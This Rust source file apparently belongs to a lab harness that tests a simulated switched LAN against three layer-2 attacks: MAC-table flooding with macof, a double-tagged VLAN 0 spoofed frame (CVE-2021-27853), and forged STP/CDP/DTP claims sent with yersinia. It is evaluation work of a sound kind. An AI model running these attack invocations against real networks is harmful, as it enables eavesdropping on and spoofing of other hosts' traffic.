//! Attacks 50 to 52: what a switch is told, and what is told in a switch's name.

use std::time::Duration;

use crate::attack::PYTHON;
use crate::attack::scene::{Finding, MARKED_LEN, Scene, count};
use crate::failure::Failure;
use crate::net::lan::INTERFACE;
use crate::net::talk::Mailbox;
use crate::net::{Frame, Host, process};

const TABLE_PROGRAM: &str = include_str!("table.py");
const TAGGED_PROGRAM: &str = include_str!("tagged.py");
const PORT: u16 = 9050;
/// Addresses that the switch remembers.
const TABLE_LEN: &str = "64";
/// How often the switch's table is emptied at the most.
const EMPTIED_MAX: usize = 10;
/// How long macof, each of whose frames has another address, floods before and after the table is emptied.
const FLOODED_FOR: Duration = Duration::from_millis(150);
const TIMES: usize = 10;
/// To whom switches speak of spanning trees (IEEE 802.1D), and of themselves and their links (Cisco's CDP and DTP).
const SWITCHES: [[u8; 6]; 2] = [[0x01, 0x80, 0xc2, 0, 0, 0], [0x01, 0, 0x0c, 0xcc, 0xcc, 0xcc]];
/// How often each claim is made; the switch drops those that yersinia makes in the name of a group.
const TRIES: usize = 3;
/// One frame of a false root, of a false neighbour, and of a port that wants to be a trunk.
const CLAIMS: [[&str; 3]; 3] = [["stp", "-attack", "0"], ["cdp", "-attack", "0"], ["dtp", "-attack", "1"]];

/// Attack 50: macof fills the switch's table, which then sends b's frames for a to everybody.
pub fn full_table(scene: &mut Scene<'_>) -> Result<Finding, Failure> {
    let (a, b, m) = (scene.host("a")?, scene.host("b")?, scene.host("m")?);
    let (_inbox, outbox) = (Mailbox::open(&a, PORT)?, Mailbox::open(&b, PORT)?);
    let token = scene.token("payload");
    let window = scene.open()?;
    let flood = scene.launch(&m, "macof", &["-i".to_owned(), INTERFACE.to_owned()])?;
    process::pause(FLOODED_FOR)?;
    // Whoever speaks first has a place in the empty table; where that was a, it is emptied again.
    for _ in 0..EMPTIED_MAX {
        limit_table(scene)?;
        process::pause(FLOODED_FOR)?;
        if !is_learned(scene, &a)? {
            break;
        }
    }
    drop(flood);
    for _ in 0..TIMES {
        outbox.send(&a, PORT, &token);
        process::pause(Duration::from_millis(50))?;
    }
    let record = scene.close(window)?;
    let overheard = |frame: &Frame| frame.is_between(b.mac, a.mac) && frame.0.len() >= MARKED_LEN;
    let (heard, read) = (count(&record.loot, overheard), count(&record.loot, |frame| frame.contains(&token)));
    Ok(Finding {
        reached: read > 0,
        harmless: read == 0,
        struck: heard,
        said: format!("m overheard {heard} of b's {TIMES} frames for a and reads {read}"),
        record,
    })
}

/// Gives the switch a table of the size that switches had once, empty, as after the time for which it remembers.
fn limit_table(scene: &Scene<'_>) -> Result<(), Failure> {
    let mut command = scene.lan.bridge.command(PYTHON);
    command.args(["-", TABLE_LEN]);
    let said = process::must_with(command, TABLE_PROGRAM.as_bytes())?;
    if said.trim() != TABLE_LEN {
        return Err(Failure::NotTestable("the kernel's switch learns without limit: it needs Linux 6.8".to_owned()));
    }
    Ok(())
}

/// Whether the switch knows behind which port `host` is.
fn is_learned(scene: &Scene<'_>, host: &Host) -> Result<bool, Failure> {
    let mut command = scene.lan.bridge.command("bridge");
    command.args(["fdb", "show"]);
    let said = process::must(command)?;
    Ok(said.lines().any(|line| line.starts_with(&host.mac.to_string()) && !line.contains("permanent")))
}

/// Attack 51 where it needs no VLAN: a frame in b's name with two tags of VLAN 0, behind which filters of switches do not look
/// (CVE-2021-27853).
pub fn hidden_behind_tags(scene: &mut Scene<'_>) -> Result<Finding, Failure> {
    let (a, b, m) = (scene.host("a")?, scene.host("b")?, scene.host("m")?);
    let inbox = Mailbox::open(&a, PORT)?;
    let token = scene.token("tagged");
    let file = scene.file("payload");
    std::fs::write(&file, &token).map_err(Failure::file("writing", &file))?;
    let words = [m.mac.to_string(), a.mac.to_string(), b.ip.to_string(), a.ip.to_string(), PORT.to_string()];
    let file = file.to_string_lossy().into_owned();
    let words: Vec<String> = [INTERFACE.to_owned()].into_iter().chain(words).chain([file]).collect();
    let window = scene.open()?;
    scene.scapy(&m, TAGGED_PROGRAM, &words)?;
    process::pause(Duration::from_millis(200))?;
    let record = scene.close(window)?;
    let delivered = inbox.take()?.iter().filter(|(_, payload)| *payload == token).count();
    let tagged = |frame: &Frame| frame.contains(&token);
    Ok(Finding {
        reached: delivered > 0,
        harmless: delivered == 0 && count(&record.inside, tagged) == 0,
        struck: count(&record.wire, tagged),
        said: format!("{delivered} datagrams behind two tags delivered in b's name"),
        record,
    })
}

/// Attack 52: the attacker speaks to everybody as a switch does. What it aims at is that hosts hear it.
pub fn false_switch(scene: &mut Scene<'_>) -> Result<Finding, Failure> {
    let m = scene.host("m")?;
    let window = scene.open()?;
    for claim in CLAIMS.iter().cycle().take(CLAIMS.len() * TRIES) {
        let mut yersinia = m.namespace.command("yersinia");
        // It keeps a log where it stands.
        yersinia.args(claim).args(["-interface", INTERFACE]).current_dir(&scene.lan.directory);
        process::ask(yersinia, &[])?;
    }
    let record = scene.close(window)?;
    let is_claim = |frame: &Frame| SWITCHES.contains(&frame.destination().0);
    let heard = count(&record.inside, is_claim);
    let is_of = |group: &[u8; 6]| count(&record.inside, |frame| frame.destination().0 == *group) > 0;
    Ok(Finding {
        reached: SWITCHES.iter().all(is_of),
        harmless: heard == 0,
        struck: count(&record.wire, is_claim),
        said: format!("{heard} frames of a false switch reached a's stack"),
        record,
    })
}
